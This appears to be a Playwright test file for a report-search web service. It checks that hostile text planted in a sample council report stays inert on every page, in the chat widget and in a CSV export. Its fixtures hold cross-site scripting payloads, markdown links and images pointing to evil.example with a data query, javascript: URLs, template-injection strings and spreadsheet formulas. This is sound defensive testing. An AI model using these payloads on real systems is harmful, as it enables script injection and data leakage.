"""Hostile text in reports stays text on every page, and no page asks for another address.

The fixture `watch` fails a test whose page throws, breaks its policy or asks for another address.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from chat_page import Chat
from whole_service import Service

from indexer.build import BuildOptions, build
from indexer.progress import ConsoleProgress

MARKUP = "<img src=https://evil.example/x onerror=alert(1)><script>alert(2)</script>"
MARKDOWN = "![x](https://evil.example/y?q=data) [click](https://evil.example)"
FINDING = (
    f"Leaders told us that carers wait nine weeks {MARKUP} for an assessment. </mark></p></article> {MARKDOWN} "
    "<!channel> javascript:alert(3) {{ 7907 * 7919 }} ${7907 * 7919} =HYPERLINK(1)"
)
REPORT = f"""Assessing needs

Score: 3

3 - Evidence shows a good standard

Key findings for this quality statement

{FINDING}

- A list item {MARKUP}
"""
TOML = f"""
[[report]]
file = "hostile.txt"
id = "hostile"
title = '{MARKUP} Nettlecombe Council: local authority assessment'
subject = '=cmd Nettlecombe {MARKUP}'
publisher = '{MARKUP}'
profile = "cqc-local-authority"
source_url = "javascript:alert(4)"
licence = '{MARKUP}'
attribution = '{MARKDOWN} {MARKUP}'
"""


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    folder = tmp_path_factory.mktemp("hostile")
    corpus, index = folder / "corpus", folder / "index"
    corpus.mkdir()
    Path(corpus / "hostile.txt").write_text(REPORT, encoding="utf-8")
    Path(corpus / "reports.toml").write_text(TOML, encoding="utf-8")
    with ConsoleProgress(quiet=True) as progress:
        built = build(corpus, index, BuildOptions(), progress)  # not ok: it says that the source_url is left out
    assert built.counts["reports"] == 1
    running = Service(index)
    yield running
    running.close()


@pytest.fixture
def page(page):
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    return page


@pytest.mark.parametrize(
    "path",
    [
        "/reports",
        "/reports/hostile",
        "/reports/hostile?q=%3Cimg",
        "/ratings",
        "/ask?q=How+long+do+carers+wait+for+an+assessment%3F",
        f"/ask?q={'%3Cscript%3Ealert(1)%3C%2Fscript%3E'}",
    ],
)
def test_no_page_takes_a_reports_text_for_markup(page, path: str) -> None:
    page.goto(path)
    assert "<script>alert(" in page.locator("main").inner_text() + page.locator("textarea, input").first.input_value()
    assert page.locator("main :is(img, script, iframe)").count() == 0
    for link in page.locator("a").all():
        assert link.get_attribute("href").startswith(("/", "#"))
    assert str(7907 * 7919) not in page.locator("main").inner_text()


def test_quoted_words_are_marked_whatever_they_are(page) -> None:
    page.goto("/ask?q=How+long+do+carers+wait+for+an+assessment%3F")
    quoted = page.locator("blockquote").first.inner_text()
    assert MARKUP in quoted
    page.locator(".place a").first.click()
    assert page.locator("article mark.quoted").inner_text() == quoted


def test_the_widget_shows_it_as_text(page) -> None:
    chat = Chat(page)
    chat.ask("How long do carers wait for an assessment?")
    assert MARKUP in " ".join(chat.claims())
    assert page.locator("citewise-chat .log :is(img, script, iframe)").count() == 0


def test_no_cell_of_the_file_is_a_formula(page, service) -> None:
    page.goto("/ratings")
    with page.expect_download() as waiting:
        page.get_by_role("link", name="Download as CSV").click()
    lines = waiting.value.path().read_text("utf-8-sig").splitlines()
    assert len(lines) > 1
    assert all("'=cmd Nettlecombe" in line for line in lines[1:])
